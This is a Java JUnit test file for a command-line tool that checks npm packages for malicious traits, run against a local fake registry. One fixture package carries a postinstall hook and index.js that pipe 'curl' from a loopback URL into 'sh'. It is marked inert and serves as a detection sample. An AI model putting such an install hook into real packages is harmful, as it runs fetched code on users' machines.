package dev.bulwark.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.HashMap;
import java.util.Map;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** `bulwark check` against a loopback registry serving two hand-written packuments. */
class CheckCommandTest {
  static HttpServer server;
  static String base;
  static final Map<String, byte[]> files = new HashMap<>();

  @BeforeAll
  static void start() throws Exception {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    base = "http://127.0.0.1:" + server.getAddress().getPort();
    // Inert: the hook names a loopback URL and is never run.
    add("hook-pkg", "{\"postinstall\":\"curl -s http://127.0.0.1:9/x.sh | sh\"}",
        "require('child_process').exec('curl -s http://127.0.0.1:9/x.sh | sh');\n");
    add("calm-pkg", "{}", "module.exports = 1;\n");
    server.createContext("/", ex -> {
      byte[] body = files.get(ex.getRequestURI().getRawPath());
      ex.sendResponseHeaders(body == null ? 404 : 200, body == null ? -1 : body.length);
      try (OutputStream o = ex.getResponseBody()) {
        if (body != null) {
          o.write(body);
        }
      }
    });
    server.start();
  }

  @AfterAll
  static void stop() {
    server.stop(0);
  }

  private static void add(String name, String scripts, String index) throws Exception {
    byte[] tgz = tgz(Map.of("package/package.json", "{\"name\":\"" + name
        + "\",\"version\":\"1.0.0\",\"scripts\":" + scripts + "}", "package/index.js", index));
    String sri = "sha512-" + Base64.getEncoder().encodeToString(
        MessageDigest.getInstance("SHA-512").digest(tgz));
    String doc = "{\"name\":\"" + name + "\",\"description\":\"d\",\"readme\":\"r\","
        + "\"dist-tags\":{\"latest\":\"1.0.0\"},\"time\":{\"0.9.0\":\"2020-01-01T00:00:00Z\","
        + "\"1.0.0\":\"2021-01-01T00:00:00Z\"},\"versions\":{"
        + "\"0.9.0\":{\"version\":\"0.9.0\",\"maintainers\":[{\"name\":\"a\"},{\"name\":\"b\"}],"
        + "\"_npmUser\":{\"name\":\"a\"},\"repository\":\"https://example.invalid/" + name + "\","
        + "\"dist\":{\"tarball\":\"" + base + "/t/" + name + ".tgz\",\"integrity\":\"" + sri + "\"}},"
        + "\"1.0.0\":{\"version\":\"1.0.0\",\"scripts\":" + scripts + ",\"maintainers\":[{\"name\":\"a\"},"
        + "{\"name\":\"b\"}],\"_npmUser\":{\"name\":\"a\"},\"repository\":\"https://example.invalid/" + name
        + "\",\"dist\":{\"tarball\":\"" + base + "/t/" + name + ".tgz\",\"integrity\":\"" + sri + "\"}}}}";
    files.put("/" + name, doc.getBytes(StandardCharsets.UTF_8));
    files.put("/t/" + name + ".tgz", tgz);
  }

  private static byte[] tgz(Map<String, String> entries) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GzipCompressorOutputStream(bytes))) {
      for (Map.Entry<String, String> f : new java.util.TreeMap<>(entries).entrySet()) {
        byte[] data = f.getValue().getBytes(StandardCharsets.UTF_8);
        TarArchiveEntry e = new TarArchiveEntry(f.getKey());
        e.setSize(data.length);
        tar.putArchiveEntry(e);
        tar.write(data);
        tar.closeArchiveEntry();
      }
    }
    return bytes.toByteArray();
  }

  @Test
  void consoleShowsVerdictsAndExitsOneForMalicious(@TempDir Path cache) {
    CliHarness.Run r = CliHarness.run(cache, "check", "--registry", base, "--no-audit",
        "npm:calm-pkg", "npm:hook-pkg@^1.0.0");
    assertThat(r.out()).contains("CLEAN  npm:calm-pkg@1.0.0").contains("npm:hook-pkg@1.0.0")
        .contains("metadata/new-install-script");
    assertThat(r.exit()).as(r.out() + r.err()).isEqualTo(1);
  }

  @Test
  void jsonFollowsTheCheckContract(@TempDir Path cache) throws Exception {
    CliHarness.Run r = CliHarness.run(cache, "check", "--registry", base, "--format", "json",
        "npm:calm-pkg");
    JsonNode doc = new ObjectMapper().readTree(r.out());
    assertThat(doc.path("command").asText()).isEqualTo("check");
    JsonNode t = doc.path("targets").get(0);
    assertThat(t.path("kind").asText()).isEqualTo("check");
    assertThat(t.path("verdict").asText()).isEqualTo("clean");
    assertThat(t.path("code").path("kind").asText()).isEqualTo("package");
    assertThat(doc.path("summary").path("exitCode").asInt()).isZero();
    String schema = java.nio.file.Files.readString(CliHarness.ROOT.resolve("docs/bulwark-output.schema.json"));
    CliHarness.Run bad = CliHarness.run(cache, "check", "--registry", base, "--format", "json",
        "--no-audit", "npm:hook-pkg", "npm:nope");
    for (String out : java.util.List.of(r.out(), bad.out())) {
      assertThat(com.networknt.schema.SchemaRegistry.withDefaultDialect(
              com.networknt.schema.SpecificationVersion.DRAFT_7).getSchema(schema)
          .validate(new ObjectMapper().readTree(out))).isEmpty();
    }
    assertThat(r.exit()).isZero();
  }

  /**
   * Issue 14: a package removed from the registry for malware (404 here) that the shipped advisory
   * sample names (MAL-2025-5285) is malicious, not clean; a name the registry never had is unknown.
   */
  @org.junit.jupiter.params.ParameterizedTest(name = "{0}")
  @org.junit.jupiter.params.provider.CsvSource(delimiter = '|', textBlock = """
      npm:react-plaid-sdk        | 1 | MALICIOUS  npm:react-plaid-sdk: known malicious package (MAL-2025-5285); the registry could not be checked (not found (404)
      npm:react-plaid-sdk@1.0.0  | 1 | MAL-2025-5285
      npm:never-was-a-package    | 3 | UNKNOWN  npm:never-was-a-package: the check could not complete: not found (404)
      npm:calm-pkg@9.9.9         | 3 | UNKNOWN  npm:calm-pkg@9.9.9: the check could not complete: no version of calm-pkg matches '9.9.9'
      """)
  void localAdvisoriesComeFirstAndAFailedCheckIsUnknown(String target, int exit, String says,
      @TempDir Path cache) throws Exception {
    CliHarness.Run r = CliHarness.run(cache, "check", "--registry", base, target);
    assertThat(r.exit()).as(r.out() + r.err()).isEqualTo(exit);
    assertThat(r.out()).contains(says).doesNotContain("CLEAN");
    CliHarness.Run json = CliHarness.run(cache, "check", "--registry", base, "--format", "json", target);
    JsonNode t = new ObjectMapper().readTree(json.out()).path("targets").get(0);
    assertThat(t.path("verdict").asText()).isEqualTo(exit == 1 ? "malicious" : "unknown");
    String schema = java.nio.file.Files.readString(CliHarness.ROOT.resolve("docs/bulwark-output.schema.json"));
    assertThat(com.networknt.schema.SchemaRegistry.withDefaultDialect(
            com.networknt.schema.SpecificationVersion.DRAFT_7).getSchema(schema)
        .validate(new ObjectMapper().readTree(json.out()))).isEmpty();
  }

  @Test
  void unreachableRegistryIsUnknownWithTheCouldNotCheckCode(@TempDir Path cache) throws Exception {
    int port;
    try (java.net.ServerSocket s = new java.net.ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      port = s.getLocalPort();
    }
    CliHarness.Run r = CliHarness.run(cache, "check", "--registry", "http://127.0.0.1:" + port,
        "npm:calm-pkg", "npm:react-plaid-sdk");
    assertThat(r.out()).contains("UNKNOWN  npm:calm-pkg").contains("MALICIOUS  npm:react-plaid-sdk");
    assertThat(r.exit()).as("malicious outranks could-not-check").isEqualTo(1);
    assertThat(CliHarness.run(cache, "check", "--registry", "http://127.0.0.1:" + port,
        "npm:calm-pkg").exit()).isEqualTo(3);
  }

  @Test
  void unknownPackageIsIncompleteAndBadTargetIsUsage(@TempDir Path cache) {
    assertThat(CliHarness.run(cache, "check", "--registry", base, "--no-audit", "npm:nope").exit())
        .isEqualTo(3);
    assertThat(CliHarness.run(cache, "check", "--no-audit", "left-pad").exit()).isEqualTo(2);
  }

}
